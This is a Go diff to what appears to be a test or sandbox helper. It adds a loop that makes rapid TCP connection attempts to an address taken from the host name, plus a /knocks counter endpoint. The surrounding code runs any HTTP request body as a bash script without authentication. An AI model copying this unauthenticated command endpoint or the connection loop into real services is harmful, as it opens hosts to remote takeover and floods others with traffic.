@@ -10,11 +10,14 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"os"
 	"os/exec"
 	"runtime"
 	"strconv"
+	"strings"
+	"sync/atomic"
 	"time"
 )
 
@@ -81,7 +84,23 @@ func run(where target) {
 	}
 }
 
+// serve: a host name such as knock-203-0-113-2 asks for connections to that address from the first moment on.
 func serve() {
+	var knocks atomic.Int64
+	name, _ := os.Hostname()
+	if address, ok := strings.CutPrefix(name, "knock-"); ok {
+		go func() {
+			for {
+				connection, err := net.DialTimeout("tcp", strings.ReplaceAll(address, "-", ".")+":80", 50*time.Millisecond)
+				if err == nil {
+					_ = connection.Close()
+				}
+				knocks.Add(1)
+				time.Sleep(time.Millisecond)
+			}
+		}()
+	}
+	http.HandleFunc("/knocks", func(answer http.ResponseWriter, _ *http.Request) { fmt.Fprint(answer, knocks.Load()) })
 	http.HandleFunc("/", func(answer http.ResponseWriter, request *http.Request) {
 		script, _ := io.ReadAll(request.Body)
 		command := exec.CommandContext(request.Context(), "/bin/bash", "-c", string(script))
